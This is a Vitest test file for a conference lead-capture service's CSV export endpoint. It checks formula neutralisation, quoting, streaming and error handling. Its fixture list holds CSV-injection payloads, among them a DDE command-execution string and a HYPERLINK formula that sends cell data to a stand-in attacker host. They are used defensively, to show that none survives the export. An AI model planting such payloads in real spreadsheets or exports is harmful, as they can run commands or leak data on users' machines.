import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { captureLead } from '../../src/store/repos/leads-repo.ts';
import { csvField, leadCsvHeader, neutralise } from '../../src/streams/leads/lead-csv.ts';
import { admin, boothStaff, ok, sponsorOf, staff, startLeadsHub, type LeadsHub } from './fixture.ts';

/** What spreadsheets would run, and what breaks naive CSV writers. */
const hostile = [
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'plain, with a comma',
  'she said "hello"',
  'two\nlines',
  'windows\r\nlines',
  '"=quoted start"',
  ' =leading space',
  'Zürich → 東京 🎟️',
  '',
];

let h: LeadsHub;
beforeAll(async () => {
  h = await startLeadsHub();
});
afterAll(() => h?.close());

describe('CSV cells', () => {
  it('neutralises what starts a formula and nothing else', () => {
    expect(hostile.map(neutralise)).toEqual(hostile.map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v)));
    expect(neutralise('1+1=2')).toBe('1+1=2');
  });

  it('quotes only fields that need it, doubling quotes', () => {
    expect(csvField('simple')).toBe('simple');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('=SUM("a,b")')).toBe('"\'=SUM(""a,b"")"');
    expect(csvField(4)).toBe('4');
    expect(csvField(null)).toBe('');
  });
});

describe('GET /api/v1/events/{e}/exhibitors/{x}/leads.csv', () => {
  it('reads back, through a CSV parser, as exactly the input with formulas neutralised', async () => {
    // Hostile names come from the roster (shared by consent), hostile notes and tags from the booth.
    const tickets = hostile.map((value, i) => ({ code: `H${i}`, holder: value.replace(/[\r\n\t]/g, ' ').trim() || 'x', email: `h${i}@example.org` }));
    expect((await h.call('POST', '/api/v1/events/expo/tickets', admin, tickets)).status).toBe(200);
    await h.call('POST', '/api/v1/events/expo/consents', staff, tickets.map((t) => ({ code: t.code, fields: ['name', 'email'] })));
    const tagOf = (value: string) => (value.trim() || 'empty').slice(0, 40).trim();
    const booth = await h.client(boothStaff('x1'));
    for (const [i, value] of hostile.entries()) {
      ok(await booth.command('lead.capture', { event: 'expo', exhibitor: 'x1', code: `H${i}`, rating: i % 6, notes: value, tags: [tagOf(value), 'b2b'] }));
    }

    const res = await h.t.api('/api/v1/events/expo/exhibitors/x1/leads.csv', { claims: sponsorOf('big') });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="leads-expo-x1.csv"');
    const bytes = Buffer.from(await res.arrayBuffer());
    // a UTF-8 byte order mark, so spreadsheets read the accents right (fetch's text() would strip it)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    const records = parse(text, { bom: true, columns: true, relax_column_count: false }) as Record<string, string>[];
    expect(Object.keys(records[0]!)).toEqual([...leadCsvHeader]);
    expect(records).toHaveLength(hostile.length);
    records.forEach((record, i) => {
      const value = hostile[i]!;
      expect(record.notes).toBe(neutralise(value));
      expect(record.name).toBe(neutralise(tickets[i]!.holder));
      expect(record.email).toBe(`h${i}@example.org`);
      expect(record.tags).toBe(neutralise(`${tagOf(value)}; b2b`));
      expect(record.rating).toBe(String(i % 6));
      expect(record.visits).toBe('1');
      expect(new Date(record.first_scan!).toISOString()).toBe(record.first_scan);
      // No cell a spreadsheet would evaluate survives.
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });

  it('streams a large export page by page, in capture order, the same as the JSON pages', async () => {
    const n = 1_234;
    const tickets = Array.from({ length: n }, (_, i) => ({ code: `B${String(i).padStart(5, '0')}`, holder: `Visitor ${i}` }));
    await h.call('POST', '/api/v1/events/expo/tickets', admin, tickets);
    await h.call('POST', '/api/v1/events/expo/consents', staff, tickets.map((t) => ({ code: t.code, fields: ['name'] })));
    for (const t of tickets) await captureLead(h.t.backends.store.db, { event: 'expo', exhibitor: 'x3', ticket: t.code, capturedBy: 'bulk' });

    const res = await h.t.api('/api/v1/events/expo/exhibitors/x3/leads.csv', { claims: boothStaff('x3') });
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    const records = parse(await res.text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.name)).toEqual(tickets.map((t) => t.holder));
    expect(new Set(records.map((r) => r.lead)).size).toBe(n);
  });

  it('answers errors as JSON before anything is streamed', async () => {
    const res = await h.t.api('/api/v1/events/expo/exhibitors/x1/leads.csv', { claims: boothStaff('x3') });
    expect(res.status).toBe(403);
    expect(await res.json()).toMatchObject({ error: 'forbidden' });
    expect((await h.t.api('/api/v1/events/expo/exhibitors/x1/leads.csv')).status).toBe(401);
    expect((await h.t.api('/api/v1/events/expo/exhibitors/nope/leads.csv', { claims: admin })).status).toBe(404);
  });
});
